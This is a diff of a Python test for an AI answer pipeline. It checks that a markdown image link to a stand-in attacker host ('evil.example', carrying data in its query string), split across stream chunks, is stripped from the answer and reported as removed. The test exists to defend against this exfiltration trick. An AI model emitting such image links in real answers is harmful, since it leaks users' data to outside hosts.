@@ -183,11 +183,11 @@ def test_whatever_a_model_writes_can_be_encoded(pieces: list[str]) -> None:
 def test_a_link_that_no_source_has_is_taken_out_and_said_to_be(answerer: Any) -> None:
     pieces = "You get 25 days ![x](https://ev", "il.example/?q=25) [1]. So says hr/d1.md [1]."
     events = answer(answerer(*map(Delta, pieces), STOP))
-    assert text(events) == "You get 25 days ![x]((…)). So says hr/d1.md."
+    assert text(events) == "You get 25 days ! [x]((…)). So says hr/d1.md."
     (said,) = events[-1].degraded
     assert said.startswith("links: 1 ")
     first, _ = only(events, Citation)
-    assert text(events)[first.answer_start : first.answer_end] == "You get 25 days ![x]((…))"
+    assert text(events)[first.answer_start : first.answer_end] == "You get 25 days ! [x]((…))"
 
 
 def test_a_character_may_be_cut_into_its_surrogates(answerer: Any) -> None:
